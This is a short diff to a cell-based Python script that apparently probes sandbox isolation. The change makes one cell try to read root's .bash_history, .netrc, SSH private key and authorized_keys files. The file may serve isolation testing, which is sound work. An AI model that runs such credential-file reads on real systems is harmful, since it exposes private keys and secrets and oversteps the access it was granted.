@@ -16,7 +16,14 @@ os.listdir("/home")
 # %% try
 import os
 
-os.listdir("/root")
+for name in (".bash_history", ".bashrc", ".profile", ".netrc", ".ssh/id_ed25519", ".ssh/authorized_keys"):
+    try:
+        open(os.path.join("/root", name)).read()
+        break
+    except OSError:
+        pass
+else:
+    raise FileNotFoundError("root has nothing to read")
 
 # %% try
 import urllib.request
